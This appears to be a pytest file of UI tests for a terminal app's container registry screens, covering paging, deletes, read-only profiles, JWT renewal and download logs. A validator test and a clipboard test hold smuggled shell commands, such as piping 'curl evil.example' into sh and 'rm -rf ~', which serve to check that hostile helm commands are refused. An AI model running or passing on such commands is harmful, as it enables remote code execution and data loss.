"""Pilot tests of the registry area: projects, a project's tabs, artifacts, downloads, the secret.

Every action is driven as a user would (keys, the command bar, dialogs) on the
in-process simulator with a frozen clock; effects are checked against the
simulator's store and the session's request counter.
"""

from __future__ import annotations

from collections import Counter
from datetime import UTC, date, datetime, timedelta
from typing import Any

import pytest
from textual.widgets import Button, Input, TabbedContent

from flextui.api.auth import Credentials
from flextui.api.registry import secret_problems
from flextui.config import Profile, Settings
from flextui.context import profile_context
from flextui.sim.app import SIM_BASE_URL
from flextui.sim.registry import HELLO, registry_store, set_jwt_lifetime
from flextui.sim.world import ADMIN, CUSTOMER
from flextui.ui.app import FlexApp
from flextui.ui.screens.registry.common import MASK
from flextui.ui.screens.registry.downloads import DownloadsScreen
from flextui.ui.screens.registry.projects import ArtifactsScreen, ChartDetailScreen, ProjectScreen, ProjectsScreen, pasteable
from flextui.ui.screens.registry.secret import SecretScreen
from flextui.ui.widgets.bars import StatusLine
from flextui.ui.widgets.chart import BarChart
from flextui.ui.widgets.dialogs import ConfirmScreen, MessageScreen, ValueScreen
from flextui.ui.widgets.forms import FormScreen
from flextui.ui.widgets.grid import DataGrid
from flextui.ui.widgets.table import ResourceTable
from tests.conftest import FIXED_NOW_MS
from tests.ui.conftest import build_app, command, settle, until, world_of

TODAY = datetime.fromtimestamp(FIXED_NOW_MS / 1000, tz=UTC).date()


def label(app: Any, selector: str) -> str:
    return str(app.screen.query_one(selector).render())


def rows(app: Any, selector: str = "ResourceTable") -> list[dict[str, Any]]:
    return app.screen.query_one(selector, ResourceTable).visible_rows


def enabled_actions(screen: Any) -> set[str]:
    return {b.binding.action for b in screen.active_bindings.values() if b.enabled}


def error_of(app: Any) -> str:
    return app.screen.query_one(StatusLine).error


async def open_hello(pilot: Any, tab: str = "repositories") -> ProjectScreen:
    await command(pilot, f"{'repos' if tab == 'repositories' else tab} {HELLO}")
    screen = pilot.app.screen
    assert isinstance(screen, ProjectScreen) and screen.tab == tab
    return screen


# -- projects -------------------------------------------------------------------------------------------


async def test_projects_paged_alphabetically_and_revisits_send_nothing() -> None:
    app = build_app(start=["projects"])
    app.ctx.settings.page_size = 10
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot)
        assert isinstance(app.screen, ProjectsScreen)
        expected = sorted(registry_store(world_of(app)).projects)
        assert len(expected) == 41
        assert [r["name"] for r in rows(app)] == expected[:10]
        assert "page 1 of 5" in label(app, "#pager") and "41 projects" in label(app, "#pager")
        await pilot.press("right_square_bracket")
        await settle(pilot)
        assert [r["name"] for r in rows(app)] == expected[10:20] and "page 2 of 5" in label(app, "#pager")
        sent = app.ctx.session.requests_sent
        await pilot.press("left_square_bracket")
        await settle(pilot)
        assert [r["name"] for r in rows(app)] == expected[:10]
        assert app.ctx.session.requests_sent == sent, "a page revisited within the freshness window is not asked again"
        assert "cached" in label(app, "#st-age")
        app.screen.page = 4
        for _ in range(2):  # to the last page, and no further
            await pilot.press("right_square_bracket")
            await settle(pilot)
        assert "page 5 of 5" in label(app, "#pager") and [r["name"] for r in rows(app)] == expected[40:]
        row = rows(app)[0]
        table = app.screen.query_one(ResourceTable)
        assert table._cell(row, "repo_count").justify == "right"
        assert "ago" in table._cell(row, "update_time").plain


async def test_projects_filter_and_open_by_name() -> None:
    app = build_app(start=["projects"])
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot)
        await pilot.press("slash", *"hello")
        await pilot.pause()
        assert [r["name"] for r in rows(app)] == [HELLO]
        assert "filter 'hello': 1 of 41" in label(app, "#pager")
        await pilot.press("escape")
        await pilot.pause()
        assert len(rows(app)) == 41
        await pilot.press("o")
        assert isinstance(app.screen, FormScreen)
        app.screen.query_one("#field-name", Input).value = "compass-2026-q2"
        await pilot.press("enter")
        await settle(pilot)
        assert isinstance(app.screen, ProjectScreen) and app.screen.project == "compass-2026-q2"
        await pilot.press("escape")
        await pilot.pause()
        assert isinstance(app.screen, ProjectsScreen)


async def test_open_by_name_says_an_unknown_name_at_the_field_and_keeps_it() -> None:
    """`o` with a name that is no project closed the form and opened a screen of two "not found" toasts; the name was gone."""
    app = build_app(start=["projects"])
    async with app.run_test(size=(80, 24)) as pilot:
        await settle(pilot)
        await pilot.press("o")
        form = app.screen
        assert isinstance(form, FormScreen)
        field = form.query_one("#field-name", Input)
        field.value = "hello-wrold-dp"
        await pilot.press("enter")
        await settle(pilot)
        assert app.screen is form and field.value == "hello-wrold-dp", "the form stays, with the name typed"
        assert "no project is named 'hello-wrold-dp'" in label(app, "#hint-name")
        field.value = HELLO
        await pilot.press("enter")
        await settle(pilot)
        assert isinstance(app.screen, ProjectScreen) and app.screen.project == HELLO


async def test_enter_opens_the_project_with_its_summary_and_tabs() -> None:
    app = build_app(start=["projects"])
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot)
        table = app.screen.query_one(ResourceTable)
        table.move_cursor(row=[r["name"] for r in rows(app)].index(HELLO))
        await pilot.press("enter")
        await settle(pilot)
        screen = app.screen
        assert isinstance(screen, ProjectScreen) and screen.tab == "repositories"
        summary = label(app, "#project-summary")
        assert "Hello World Download Package" in summary and "expires 2025-08-04 (expired)" in summary and "tenant 1107" in summary
        assert [r["short"] for r in rows(app, "#repos-table")] == ["hello-world-image"]
        assert "1 repository · 1 artifact · 3 pulls" in label(app, "#repos-pager")
        tabs = screen.query_one(TabbedContent)
        assert "Charts (1)" in str(tabs.get_tab("charts").label)
        await pilot.press("2")
        await pilot.pause()
        assert screen.tab == "charts" and [r["short"] for r in rows(app, "#charts-table")] == ["hello-world-chart"]
        await pilot.press("3")
        await pilot.pause()
        assert screen.tab == "members" and CUSTOMER[0] in [r["entity_name"] for r in rows(app, "#members-table")]


async def test_a_long_project_summary_leaves_the_tabs_and_table_in_view() -> None:
    """A 4,000-character package name filled all of an 80×24 screen: tabs, table and status line pushed off."""
    app = build_app(start=["projects"])
    async with app.run_test(size=(80, 24)) as pilot:
        await settle(pilot)
        registry_store(world_of(app)).projects[HELLO].package_name = "Long package name " * 230
        screen = await open_hello(pilot)
        await settle(pilot)
        summary = screen.query_one("#project-summary")
        assert summary.region.height <= 4, "the name cut with …, and the dates under it"
        assert "Long package name" in label(app, "#project-summary") and "…" in label(app, "#project-summary")
        table = screen.query_one("#repos-table", ResourceTable)
        assert table.region.height >= 3 and table.region.bottom <= 23, "the table is on screen"
        assert [r["short"] for r in rows(app, "#repos-table")] == ["hello-world-image"]


async def test_command_bar_routes() -> None:
    app = build_app(start=["tokens"])
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot)
        await command(pilot, "projects")
        assert isinstance(app.screen, ProjectsScreen)
        await command(pilot, f"charts {HELLO}")
        assert isinstance(app.screen, ProjectScreen) and app.screen.tab == "charts" and app.screen.project == HELLO
        assert isinstance(app.screen_stack[-2], ProjectsScreen), "the project opens on top of the projects list"
        await command(pilot, f"members {HELLO}")
        assert isinstance(app.screen, ProjectScreen) and app.screen.tab == "members"
        await command(pilot, "downloads")
        assert isinstance(app.screen, DownloadsScreen)
        await command(pilot, "secret")
        assert isinstance(app.screen, SecretScreen)
        await command(pilot, f"artifacts {HELLO}/hello-world-image")
        assert isinstance(app.screen, ArtifactsScreen) and len(rows(app)) == 1
        await command(pilot, "charts")
        assert any(":charts needs PROJECT" in str(n.message) for n in app._notifications)


async def test_unknown_project_is_explained_not_fatal() -> None:
    app = build_app(start=["charts", "no-such-project"])
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot)
        assert app.is_running and isinstance(app.screen, ProjectScreen)
        assert "not found" in label(app, "#project-summary") and "Project not found" in error_of(app)


# -- repositories, artifacts, charts -------------------------------------------------------------------------


async def test_repository_artifacts_paged_with_details_and_copy() -> None:
    app = build_app(start=["repos", "compass-2026-q2"])
    app.ctx.settings.page_size = 4
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot)
        repo_rows = rows(app, "#repos-table")
        row = next(r for r in repo_rows if r["short"] == "compass-server")
        app.screen.query_one("#repos-table", ResourceTable).move_cursor(row=repo_rows.index(row))
        await pilot.press("enter")
        await settle(pilot)
        screen = app.screen
        assert isinstance(screen, ArtifactsScreen) and screen.repository == "compass-2026-q2/compass-server"
        assert row["repo"].artifact_count == 9
        assert len(rows(app)) == 4 and "page 1 of 3 · 9 artifacts" in label(app, "#pager")
        first = rows(app)[0]
        assert "latest" in first["tags"] and first["size"].endswith("MiB")
        assert screen.query_one(ResourceTable)._cell(first, "digest").plain == first["digest"].split(":")[1][:12]
        await pilot.press("right_square_bracket")
        await settle(pilot)
        await pilot.press("right_square_bracket")
        await settle(pilot)
        assert len(rows(app)) == 1 and "page 3 of 3" in label(app, "#pager")
        await pilot.press("right_square_bracket")
        await settle(pilot)
        assert "page 3 of 3" in label(app, "#pager")
        await pilot.press("c")
        assert app.clipboard == rows(app)[0]["digest"]
        await pilot.press("enter")
        await pilot.pause()
        assert isinstance(app.screen, MessageScreen)
        body = label(app, "#message-body")
        assert rows_digest(screen) in body and "bytes" in body and "architecture" in body
        await pilot.press("escape")
        await pilot.press("escape")
        await pilot.pause()
        assert isinstance(app.screen, ProjectScreen)


def rows_digest(screen: ArtifactsScreen) -> str:
    return screen.query_one(ResourceTable).visible_rows[0]["digest"]


async def test_chart_detail_lists_versions_and_copies_the_helm_command() -> None:
    app = build_app(start=["charts", "compass-2026-q2"])
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot)
        await pilot.press("enter")
        await until(pilot, lambda: isinstance(app.screen, ChartDetailScreen))
        modal = app.screen
        assert isinstance(modal, ChartDetailScreen)
        versions = modal.chart.versions
        assert len(versions) == 6 and versions[0].version == "0.6.0"
        assert modal.query_one("#versions").row_count == 6
        shown = label(app, "#chart-version")
        assert versions[0].digest in shown and "compass-operator-0.6.0.tgz" in shown
        await pilot.press("down")
        await pilot.pause()
        assert versions[1].version in label(app, "#chart-version")
        await pilot.press("c")
        assert app.clipboard == versions[1].helm_command
        await pilot.press("escape")
        await pilot.pause()
        assert isinstance(app.screen, ProjectScreen)


@pytest.mark.parametrize(
    ("command", "ok"),
    [
        ("helm pull oci://registry.flexdemo.example/1107-hello/compass --version 0.6.0", True),
        ("helm pull oci://r.example/p/c --version 1.2.3-rc.1+build_7", True),
        ("helm pull oci://r.example/p/c; curl evil.example | sh", False),
        ("helm pull $(curl evil.example)", False),
        ("helm pull `id`", False),
        ("helm pull 'x' --version 1", False),
        ("helm pull x\nrm -rf ~", False),
        ("curl evil.example", False),
        ("helm pull x > ~/.bashrc", False),
    ],
)
def test_a_helm_command_is_pasteable_only_without_shell_characters(command: str, ok: bool) -> None:
    assert pasteable(command) is ok


async def test_a_hostile_helm_command_is_not_copied_the_chart_url_is() -> None:
    app = build_app(start=["charts", "compass-2026-q2"])
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot)
        await pilot.press("enter")
        await until(pilot, lambda: isinstance(app.screen, ChartDetailScreen))
        modal = app.screen
        assert isinstance(modal, ChartDetailScreen)
        version = modal.chart.versions[0]
        object.__setattr__(version, "helm_command", f"helm pull {version.urls[0]}; curl evil.example | sh")
        await pilot.press("c")
        await until(pilot, lambda: app.clipboard == version.urls[0])
        assert "evil" not in app.clipboard


async def test_delete_chart_asks_names_it_and_cancel_keeps_it() -> None:
    app = build_app(start=["projects"])
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot)
        store = registry_store(world_of(app))
        project = store.project(HELLO)
        await open_hello(pilot, "charts")
        await pilot.press("d")
        await until(pilot, lambda: isinstance(app.screen, ConfirmScreen))
        title, body = label(app, "#confirm-title"), label(app, "#confirm-body")
        assert "chart hello-world-chart of project hello-world-dp" in title
        assert "0.1.0" in body and "cannot be undone" in body
        await pilot.press("escape")
        await until(pilot, lambda: isinstance(app.screen, ProjectScreen))
        assert "hello-world-chart" in store.charts(project)
        await pilot.press("d")
        await until(pilot, lambda: isinstance(app.screen, ConfirmScreen))
        await pilot.click("#confirm")
        await until(pilot, lambda: not rows(app, "#charts-table"))
        await settle(pilot)
        assert "hello-world-chart" not in store.charts(project)
        assert "no charts pushed yet" in label(app, "#charts-pager")
        assert "Chart hello-world-chart deleted" in app.screen.query_one(StatusLine).info
        # back on the list, the counts are asked again (forced), so they match
        sent = app.ctx.session.requests_sent
        await pilot.press("escape")
        await settle(pilot)
        assert isinstance(app.screen, ProjectsScreen) and app.ctx.session.requests_sent > sent
        hello = next(r for r in rows(app) if r["name"] == HELLO)
        assert hello["project"].chart_count == 0


async def test_delete_repository_from_the_chart_detail_too() -> None:
    app = build_app(start=["repos", HELLO])
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot)
        store = registry_store(world_of(app))
        await pilot.press("delete")
        await until(pilot, lambda: isinstance(app.screen, ConfirmScreen))
        assert "repository hello-world-image of project hello-world-dp" in label(app, "#confirm-title")
        assert "1 artifact" in label(app, "#confirm-body") and "3 times" in label(app, "#confirm-body")
        await pilot.press("right", "enter")  # the verb's button (no letter confirms)
        await until(pilot, lambda: not rows(app, "#repos-table"))
        assert store.repositories(store.project(HELLO)) == {}
        # nothing left to delete on this tab: `d` is not offered, and pressing it asks nothing
        screen = app.screen
        await until(pilot, lambda: "delete" not in enabled_actions(screen))
        await pilot.press("d")
        await settle(pilot)
        assert app.screen is screen
        await pilot.press("2")  # the charts tab still has one
        await until(pilot, lambda: "delete" in enabled_actions(screen))
        await pilot.press("1")
        # the chart detail's d asks the same question
        await pilot.press("2", "enter")
        await until(pilot, lambda: isinstance(app.screen, ChartDetailScreen))
        await pilot.press("d")
        await until(pilot, lambda: isinstance(app.screen, ConfirmScreen))
        assert "chart hello-world-chart" in label(app, "#confirm-title")
        await pilot.press("escape")
        await until(pilot, lambda: isinstance(app.screen, ProjectScreen))


async def test_read_only_hides_and_refuses_deletes() -> None:
    app = build_app(start=["charts", HELLO], read_only=True)
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot)
        screen = app.screen
        assert isinstance(screen, ProjectScreen)
        store = registry_store(world_of(app))
        sent = app.ctx.session.requests_sent
        for key in ("d", "delete"):
            await pilot.press(key)
            await settle(pilot)
            assert app.screen is screen, "no confirmation on a read-only profile"
        assert "delete" not in enabled_actions(screen)
        screen.action_delete()  # even when called directly, it refuses
        await settle(pilot)
        assert "read-only" in error_of(app)
        assert "hello-world-chart" in store.charts(store.project(HELLO)) and app.ctx.session.requests_sent == sent
        await pilot.press("enter")
        await until(pilot, lambda: isinstance(app.screen, ChartDetailScreen))
        assert "d delete" not in label(app, "#chart-hint")
        await pilot.press("d")
        await pilot.pause()
        assert isinstance(app.screen, ChartDetailScreen)


async def test_read_only_delete_keys_say_the_profile_is_read_only() -> None:
    """`d` and Delete on a repository or a chart (and `d` in a chart's detail) say why nothing happens, as every
    other change does on a read-only profile (they said nothing at all); the Members tab, which deletes nothing, stays quiet."""
    app = build_app(start=["repos", HELLO], read_only=True)
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot)
        screen = app.screen
        assert isinstance(screen, ProjectScreen)
        refusal = "This profile is read-only: delete is off"

        def said() -> list[str]:
            return [s.text for s in app.said]

        for tab in ("1", "2"):
            await pilot.press(tab)
            for key in ("d", "delete"):
                before = len(said())
                await pilot.press(key)
                await settle(pilot)
                assert app.screen is screen and said()[before:] == [refusal], (tab, key, said())
        await pilot.press("3")
        await until(pilot, lambda: screen.tab == "members")
        before = len(said())
        await pilot.press("d")
        await settle(pilot)
        assert said()[before:] == []
        await pilot.press("2", "enter")
        await until(pilot, lambda: isinstance(app.screen, ChartDetailScreen))
        before = len(said())
        await pilot.press("d")
        await settle(pilot)
        assert isinstance(app.screen, ChartDetailScreen) and said()[before:] == [refusal], said()


async def test_members_tab_pages_and_asks_the_api_for_one_user() -> None:
    app = build_app(start=["members", HELLO])
    app.ctx.settings.page_size = 4
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot)
        screen = app.screen
        store = registry_store(world_of(app))
        everyone = [m["entityName"] for m in store.members(store.project(HELLO))]
        assert [r["entity_name"] for r in rows(app, "#members-table")] == everyone[:4]
        pages = -(-len(everyone) // 4)
        assert f"page 1 of {pages} · {len(everyone)} members can pull" in label(app, "#members-pager")
        await pilot.press("right_square_bracket")
        await settle(pilot)
        assert [r["entity_name"] for r in rows(app, "#members-table")] == everyone[4:8]
        field = screen.query_one("#q-member", Input)
        field.focus()
        field.value = CUSTOMER[0].upper()
        await pilot.press("enter")
        await settle(pilot)
        assert [r["entity_name"] for r in rows(app, "#members-table")] == [CUSTOMER[0]]
        assert "a member (guest)" in label(app, "#members-pager")
        field.focus()
        field.value = "nobody@nowhere.example"
        await pilot.press("enter")
        await settle(pilot)
        assert rows(app, "#members-table") == [] and "not a member" in label(app, "#members-pager")
        field.focus()
        field.value = ""
        await pilot.press("enter")
        await settle(pilot)
        await pilot.press("slash", *"maint")
        await pilot.pause()
        shown = rows(app, "#members-table")
        assert shown and len(shown) < 4 and all(r["role_name"] == "maintainer" for r in shown)
        assert "filter 'maint'" in label(app, "#members-pager")
        await pilot.press("escape")
        current = screen.query_one("#members-table", ResourceTable).current_row()
        assert current is not None
        await pilot.press("enter")
        await pilot.pause()
        assert isinstance(app.screen, MessageScreen) and current["entity_name"] in label(app, "#message-body")


# -- authentication ------------------------------------------------------------------------------------------


async def test_jwt_renewal_is_invisible() -> None:
    app = build_app(start=["projects"])
    world = world_of(app)
    set_jwt_lifetime(world, 30)
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot)
        auth = app.ctx.extras["registry"].auth
        assert auth.authentications == 1
        world.clock.advance(120_000)  # the JWT has expired; the app does not know
        await pilot.press("ctrl+r")
        await settle(pilot)
        await command(pilot, f"charts {HELLO}")
        assert auth.authentications == 2, "authenticated again once, silently"
        assert error_of(app) == "" and rows(app, "#charts-table")
        assert not [n for n in app._notifications if n.severity == "error"]


async def test_token_profile_explains_why_the_registry_cannot_work() -> None:
    app = build_app(start=["projects"])
    app.ctx.session.credentials = Credentials(app.ctx.user, None, "rna_" + "0" * 44)  # an access token, no password
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot)
        sent = app.ctx.session.requests_sent
        note = label(app, "#reg-problem")
        assert "cannot be used with this profile" in note and "JWT" in note and "no password" in note and "password = " in note
        assert not app.screen.query_one(ResourceTable).display
        for area in ("downloads", "secret", f"charts {HELLO}"):
            await command(pilot, area)
            assert app.is_running and "no password" in label(app, "#reg-problem")
        await pilot.press("v")
        await settle(pilot)
        assert app.ctx.session.requests_sent == sent


async def test_a_project_area_with_no_project_says_so_not_that_the_registry_is_unusable() -> None:
    """A project's screen opened with no project (as `:profile` did) said "The registry cannot be used with this
    profile" on a profile that can use it. (`:charts` alone is refused before any screen opens.)"""
    from flextui import kinds

    app = build_app(start=["projects"])
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot)
        app.open_kind(kinds.get("charts"), None)
        await until(
            pilot,
            lambda: (
                isinstance(app.screen, ProjectScreen)
                and bool(app.screen.query("#reg-problem"))
                and app.screen.query_one("#reg-problem").display
            ),
        )
        note = label(app, "#reg-problem")
        assert "give a project" in note and "cannot be used" not in note, note
        assert "unavailable" not in error_of(app), error_of(app)


async def test_the_area_typed_from_inside_it_shows_its_home() -> None:
    """`:projects` on a project's screen kept the project's screen (the area as left): from inside the area it is the list;
    from another area, the area shows what it showed when left."""
    app = build_app(start=["projects"])
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot)
        await open_hello(pilot, "charts")
        await command(pilot, "tokens")
        await command(pilot, "projects")
        await until(pilot, lambda: isinstance(app.screen, ProjectScreen))  # from elsewhere: the area as it was left
        await command(pilot, "projects")
        await until(pilot, lambda: isinstance(app.screen, ProjectsScreen))


async def test_offline_shows_the_cached_projects_and_says_what_is_not_cached() -> None:
    """`flextui --offline` (a user and no password: none is asked for offline) said the registry could not be used,
    "no password", though its pages were in the cache; the other areas answered from it."""
    online = build_app(start=["projects"])
    async with online.run_test(size=(120, 40)) as pilot:
        await settle(pilot)
        cached = [r["name"] for r in rows(online)]
    assert cached
    profile = Profile(name="sim", url=SIM_BASE_URL, user=ADMIN[0], registry_tenant=world_of(online).tenant_id)
    ctx = profile_context(profile, Credentials(ADMIN[0]), Settings(), offline=True, cache=online.ctx.session.cache)
    ctx.start = ["projects"]
    app = FlexApp(ctx)
    app.animation_level = "none"
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot)
        assert isinstance(app.screen, ProjectsScreen)
        assert not app.screen.query_one("#reg-problem").display and error_of(app) == ""
        assert [r["name"] for r in rows(app)] == cached
        await command(pilot, "downloads")
        await settle(pilot)
        assert isinstance(app.screen, DownloadsScreen) and not app.screen.query_one("#reg-problem").display
        assert "offline, and nothing cached for registry.downloads" in error_of(app)
        assert app.ctx.session.requests_sent == 0


async def test_a_user_the_registry_refuses_gets_a_message() -> None:
    app = build_app(start=["projects"], as_user="customer")
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot)
        assert app.is_running and "loading projects" in error_of(app)


# -- downloads ------------------------------------------------------------------------------------------------


def expected_downloads(app: Any, start: date, end: date, **match: str) -> list[Any]:
    store = registry_store(world_of(app))
    out = []
    for year in range(end.year, start.year - 1, -1):  # newest first, as the log is
        for d in store.downloads(year, None):
            day = datetime.fromtimestamp(d.ms / 1000, tz=UTC).date()
            if start <= day <= end and all(getattr(d, k).lower() == v.lower() for k, v in match.items()):
                out.append(d)
    return out


async def test_downloads_last_30_days_with_chart_and_top_artifacts() -> None:
    app = build_app(start=["downloads"])
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot)
        screen = app.screen
        assert isinstance(screen, DownloadsScreen)
        start = TODAY - timedelta(days=29)
        assert screen.query_one("#dl-from", Input).value == start.isoformat()
        assert screen.query_one("#dl-to", Input).value == TODAY.isoformat()
        expected = expected_downloads(app, start, TODAY)
        grid = screen.query_one(DataGrid)
        assert grid.total_count == len(expected) > 0
        assert grid.model.row_dict(0)["artifact"] == expected[0].artifact, "newest first"
        assert f"{len(expected)} downloads · {start.isoformat()} → {TODAY.isoformat()} (30 days, UTC)" in label(app, "#pager")
        series = screen.chart_series
        assert len(series) == 30 and series[0][0] == start.isoformat() and series[-1][0] == TODAY.isoformat()
        assert sum(v for _, v in series) == len(expected)
        per_day = Counter(datetime.fromtimestamp(d.ms / 1000, tz=UTC).date().isoformat() for d in expected)
        assert dict((k, v) for k, v in series if v) == dict(per_day)
        chart_text = label(app, "BarChart")
        assert "Downloads per day" in chart_text and f"total {len(expected)}" in chart_text and "▇" in chart_text or "█" in chart_text
        top = rows(app, "#top-table")
        counts = Counter(d.artifact for d in expected)
        assert [r["name"] for r in top] == [a for a, _ in sorted(counts.items(), key=lambda kv: (-kv[1], kv[0]))][:10]
        assert top[0]["share"] == f"{100 * counts[top[0]['name']] / len(expected):.1f}%"
        sent = app.ctx.session.requests_sent
        await pilot.press("ctrl+r")  # forced: every page is asked again
        await settle(pilot)
        assert app.ctx.session.requests_sent > sent and grid.total_count == len(expected) and error_of(app) == ""
        await pilot.press("enter")  # the log's first row, in full
        await pilot.pause()
        assert isinstance(app.screen, MessageScreen) and expected[0].artifact in label(app, "#message-body")


async def test_downloads_filters_by_project_user_account_and_range() -> None:
    app = build_app(start=["downloads"])
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot)
        screen = app.screen
        start, end = TODAY - timedelta(days=399), TODAY
        everything = expected_downloads(app, start, end)
        busiest = Counter(d.project for d in everything).most_common(1)[0][0]
        screen.query_one("#dl-from", Input).value = start.isoformat()
        screen.query_one("#dl-project", Input).value = busiest
        screen.query_one("#dl-project", Input).focus()
        await pilot.press("enter")
        await settle(pilot)
        grid = screen.query_one(DataGrid)
        wanted = [d for d in everything if d.project == busiest]
        assert grid.total_count == len(wanted) and all(r[4] == busiest for r in grid.model.iter_view())
        assert len(screen.chart_series) == 400 and sum(v for _, v in screen.chart_series) == len(wanted)
        user = wanted[0].username
        screen.query_one("#dl-project", Input).value = ""
        screen.query_one("#dl-user", Input).value = user.upper()
        await pilot.press("enter")
        await settle(pilot)
        assert grid.total_count == len([d for d in everything if d.username == user])
        account = wanted[0].account_name
        screen.query_one("#dl-user", Input).value = ""
        screen.query_one("#dl-account", Input).value = account
        await pilot.press("enter")
        await settle(pilot)
        theirs = [d for d in everything if account in d.account_names]  # any of an entry's accounts
        assert grid.total_count == len(theirs)
        assert {r["name"] for r in rows(app, "#top-table")} <= {d.artifact for d in theirs}


async def test_downloads_dates_are_checked_inline_before_any_request() -> None:
    app = build_app(start=["downloads"])
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot)
        screen = app.screen
        sent = app.ctx.session.requests_sent
        before = screen.query_one(DataGrid).total_count
        field = screen.query_one("#dl-from", Input)
        field.value = "2026-02-30"
        await pilot.pause()
        assert "not a date" in label(app, "#dl-error") and field.has_class("-invalid")
        field.focus()
        await pilot.press("enter")
        await settle(pilot)
        assert app.ctx.session.requests_sent == sent and screen.query_one(DataGrid).total_count == before
        assert "fix the dates" in error_of(app)
        field.value = "2026-12-01"
        await pilot.pause()
        assert "is after to" in label(app, "#dl-error")
        field.value = "2026-10-01"
        await pilot.pause()
        assert not screen.query_one("#dl-error").display and not field.has_class("-invalid")
        screen.query_one("#dl-to", Input).value = "2027-06-01"
        await pilot.pause()
        assert "in the future" in label(app, "#dl-error")


async def test_downloads_slash_filter_narrows_the_log_chart_and_top() -> None:
    app = build_app(start=["downloads"])
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot)
        screen = app.screen
        grid = screen.query_one(DataGrid)
        total = grid.total_count
        chart_only = [r for r in grid.model.iter_view_dicts() if "/charts/" in r["artifact"]]
        assert 0 < len(chart_only) < total
        await pilot.press("slash", *"/charts/")
        await pilot.pause()
        assert grid.row_count == len(chart_only)
        assert sum(v for _, v in screen.chart_series) == len(chart_only)
        assert all("/charts/" in r["name"] for r in rows(app, "#top-table"))
        assert f"{len(chart_only)} of {total}" in label(app, "#pager")
        assert "filter" in label(app, "BarChart")
        await pilot.press("escape")
        await pilot.pause()
        assert grid.row_count == total and sum(v for _, v in screen.chart_series) == total
        # enter on a top artifact filters the log to it, through the / bar (escape there clears it)
        top = screen.query_one("#top-table", ResourceTable)
        top.focus()
        top.move_cursor(row=1)
        name = rows(app, "#top-table")[1]["name"]
        await pilot.press("enter")
        await pilot.pause()
        assert all(r["artifact"] == name for r in grid.model.iter_view_dicts()) and grid.row_count == top_count(app, name)
        assert screen.query_one("#filterbar", Input).value.startswith("artifact=")


def top_count(app: Any, name: str) -> int:
    return next(r["n"] for r in app.screen.query_one("#top-table", ResourceTable).rows_all if r["name"] == name)


async def test_downloads_stream_in_and_can_be_cancelled() -> None:
    app = build_app(start=["downloads"], latency_ms=60)
    async with app.run_test(size=(120, 40)) as pilot:
        screen = app.screen
        await until(pilot, lambda: isinstance(app.screen, DownloadsScreen) and not app.screen.fetching, timeout=10)
        screen = app.screen
        screen.set_filter_text(screen.query_one("#dl-from", Input), (TODAY - timedelta(days=399)).isoformat())  # in force
        screen.action_load()
        await until(pilot, lambda: screen.fetching and screen.loaded > 0, timeout=10)
        assert "loaded so far" in label(app, "#pager") and "escape cancels" in label(app, "#pager")
        assert "loading" in label(app, "BarChart")
        await pilot.press("escape")
        await until(pilot, lambda: not screen.fetching and "stopped:" in label(app, "#pager"))
        partial = screen.loaded
        assert screen.cancelled and 0 < partial < len(expected_downloads(app, TODAY - timedelta(days=399), TODAY))
        assert f"stopped: {partial:,} loaded" in label(app, "#pager") and "partial" in label(app, "BarChart")
        assert screen.query_one(DataGrid).total_count == partial
        assert isinstance(app.screen, DownloadsScreen), "escape cancelled; it did not leave"


DOWNLOADS_PATH = r"GET /registry/api/v1/downloads"
FAULTS = {
    "503": {"status": 503},
    "drop": {"drop": True},
    "429": {"status": 429, "retry_after": 0},
    "truncated": {"truncate": True},
}


@pytest.mark.parametrize("fault", sorted(FAULTS))
async def test_downloads_failure_ends_the_loading_state_says_why_and_ctrl_r_loads_again(fault: str) -> None:
    """A fast registry failure: no spinner left up, the reason on screen, and ctrl+r loads again."""
    from flextui.sim.faults import FaultPlan

    app = build_app(start=["downloads"])
    plan = FaultPlan()
    app.ctx.extras["sim_app"].plan = plan
    plan.add(DOWNLOADS_PATH, times=50, **FAULTS[fault])
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot)
        screen = app.screen
        assert isinstance(screen, DownloadsScreen)
        assert not screen.fetching and screen._cover_widget is None and not screen.loading, "no loading state or overlay is left up"
        pager = label(app, "#pager")
        assert pager.startswith("✗ failed") and "ctrl+r tries again" in pager, pager
        assert "loading the download log" in error_of(app)
        assert "failed" in label(app, "BarChart")
        plan.faults.clear()
        await pilot.press("ctrl+r")
        await settle(pilot)
        assert screen.loaded > 0 and screen.query_one(DataGrid).total_count == screen.loaded
        assert label(app, "#pager").startswith(f"{screen.loaded} downloads") and error_of(app) == ""


async def test_downloads_never_cover_the_screen_with_textuals_loading_overlay() -> None:
    """While the log streams in, the screen stays readable and answers keys (no full-screen spinner)."""
    app = build_app(start=["downloads"], latency_ms=60)
    async with app.run_test(size=(120, 40)) as pilot:
        await until(pilot, lambda: isinstance(app.screen, DownloadsScreen) and app.screen.fetching, timeout=10)
        screen = app.screen
        assert screen._cover_widget is None and not screen.loading and not screen.disabled
        await until(pilot, lambda: not screen.fetching, timeout=10)
        screen.set_filter_text(screen.query_one("#dl-from", Input), (TODAY - timedelta(days=399)).isoformat())  # in force
        screen.action_load()
        await until(pilot, lambda: screen.fetching and screen.loaded > 0, timeout=10)
        assert screen._cover_widget is None and not screen.loading and not screen.disabled
        assert "loaded so far" in label(app, "#pager")
        await pilot.press("ctrl+r")  # answered while loading: the load starts again, from the server
